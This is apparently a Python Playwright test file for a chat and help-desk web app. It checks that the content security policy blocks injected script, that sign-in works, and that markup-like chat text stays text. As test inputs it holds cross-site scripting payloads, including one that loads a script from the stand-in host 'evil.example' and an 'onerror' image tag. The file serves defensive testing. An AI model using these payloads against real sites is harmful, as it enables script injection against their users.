"""The safety net is shown to hold: the browser blocks what the content policy forbids, and the tests hear of it."""
import pytest
from playwright.sync_api import expect
from world import PASSWORD

from .pages import DeskScreen

INJECTIONS = {
    "markup": "document.body.innerHTML = '<b>here</b>'",
    "a handler": "document.body.setAttribute('onclick', 'alert(1)')",
    "an address": "const script = document.createElement('script'); script.src = 'https://evil.example/x.js'; document.body.append(script)",
}


@pytest.mark.parametrize("injection", INJECTIONS.values(), ids=INJECTIONS.keys())
@pytest.mark.parametrize("where", ["chat", "desk"])
def test_what_is_injected_is_blocked_and_reported(windows, company, injection, where):
    page = windows.open()
    page.goto(f"/chat/{company.site}" if where == "chat" else "/desk")
    expect(page.get_by_role("main")).to_be_visible()
    page.evaluate("() => { try { %s } catch { /* blocked */ } }" % injection)
    expect(page.get_by_role("main")).to_be_visible()
    blocked = [fault for fault in windows.faults if "content policy" in fault]
    windows.faults.clear()
    assert blocked


@pytest.mark.parametrize("locale", ["zh-CN", "en"])
def test_signing_in_by_the_form(windows, company, locale):
    desk = DeskScreen(windows.open(locale=locale), locale)
    desk.sign_in("olive@example.com", "not the passphrase")
    expect(desk.page.get_by_role("alert").filter(visible=True)).to_be_visible()
    desk.sign_in("olive@example.com", PASSWORD)
    expect(desk.page.get_by_role("tablist")).to_be_visible()


def test_text_that_looks_like_markup_stays_text(windows, company):
    attack = "<img src=x onerror=alert(1)><script>alert(2)</script>"
    chat = windows.chat(company)
    chat.page.on("dialog", lambda dialog: windows.faults.append("a script ran"))
    chat.say("something the bot knows nothing of")
    chat.is_waiting_for_a_person()
    chat.say(attack)
    chat.hears(attack)
    desk = windows.desk("olive@example.com")
    desk.list("queue")
    desk.open("onerror")
    desk.reads(attack)
